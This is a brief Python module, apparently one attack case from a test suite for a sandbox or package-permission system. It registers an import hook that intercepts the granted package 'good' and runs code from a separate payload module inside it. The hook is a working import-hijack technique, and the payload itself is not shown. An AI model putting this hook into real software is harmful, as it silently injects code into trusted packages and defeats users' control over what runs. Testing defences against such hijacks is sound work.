"""A finder gives the application something else for a granted package."""
CATEGORY = "forging"
REACH = "net"

import sys
from importlib.machinery import PathFinder

from . import payload


class Loader:

    def __init__(self, loader):
        self.loader = loader

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        self.loader.exec_module(module)
        exec(payload.SOURCE, vars(module))


class Finder:

    @staticmethod
    def find_spec(name, path=None, target=None):
        if name == "good":
            spec = PathFinder.find_spec(name, path)
            spec.loader = Loader(spec.loader)
            return spec


def attack():
    sys.meta_path.insert(0, Finder)
